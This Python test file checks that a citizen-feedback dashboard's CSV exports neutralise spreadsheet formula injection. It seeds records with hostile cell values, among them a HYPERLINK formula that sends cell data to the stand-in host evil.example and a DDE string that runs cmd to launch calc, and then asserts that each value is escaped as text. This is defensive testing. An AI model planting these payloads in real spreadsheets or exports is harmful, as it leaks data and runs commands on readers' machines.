"""Every CSV export of the dashboard writes what citizens and staff typed as text, never as a formula."""

from __future__ import annotations

import csv
import io

from sqlmodel import Session

from core.spreadsheet import FORMULA_LEADS
from feedback.metrics import rollup
from feedback.metrics.reports import FILTER_DIMENSIONS
from router.identity.models import Citizen
from staff.models import User
from tests.helpers.metrics import NOW, in_progress_case, segment_world
from tests.helpers.staff import make_user, sign_in_with_cookie

LEAK = '=HYPERLINK("https://evil.example/?d="&A2&B2,"详情")'


def _hostile_world(session: Session) -> None:
    roads, _farmer = segment_world(session)
    citizen = Citizen(language="zh", county=LEAK, township="+1+cmd|' /C calc'!A0", occupation="@SUM(A1:A9)")
    session.add(citizen)
    session.flush()
    case = in_progress_case("910000099", citizen, roads, "sms", NOW)
    case.region = "-2+3"
    session.add(case)
    session.commit()


def _exports(client) -> dict[str, list[list[str]]]:
    paths = ["/dashboard/cases?figure=cases&format=csv", "/dashboard/trend.csv"]
    paths += [f"/dashboard/{dimension}.csv" for dimension in FILTER_DIMENSIONS]
    found = {}
    for path in paths:
        response = client.get(path)
        assert response.status_code == 200 and response.mimetype == "text/csv", path
        found[path] = list(csv.reader(io.StringIO(response.get_data(as_text=True).removeprefix("\ufeff"))))
    return found


def test_no_export_holds_a_cell_a_spreadsheet_would_run(client, runtime):
    with Session(runtime.engine, expire_on_commit=False) as session:
        _hostile_world(session)
    rollup.refresh(runtime.engine, utc_offset_hours=8)
    supervisor = make_user(runtime, "zhou.sup", role="supervisor", language="zh")
    with Session(runtime.engine) as session:
        user = session.get(User, supervisor)
        user.display_name = "=1+1"
        session.add(user)
        session.commit()
    sign_in_with_cookie(client, supervisor)
    exports = _exports(client)
    cells = [(path, cell) for path, rows in exports.items() for row in rows for cell in row]
    assert [(path, cell) for path, cell in cells if cell.startswith(FORMULA_LEADS)] == []
    assert ("/dashboard/county.csv", "'" + LEAK) in cells  # still there for the reader, as text
    drill_down = exports["/dashboard/cases?figure=cases&format=csv"]
    [hostile] = [row for row in drill_down if row[0] == "910000099"]
    assert hostile[5:10] == ["'-2+3", "'" + LEAK, "'+1+cmd|' /C calc'!A0", "", "'@SUM(A1:A9)"]
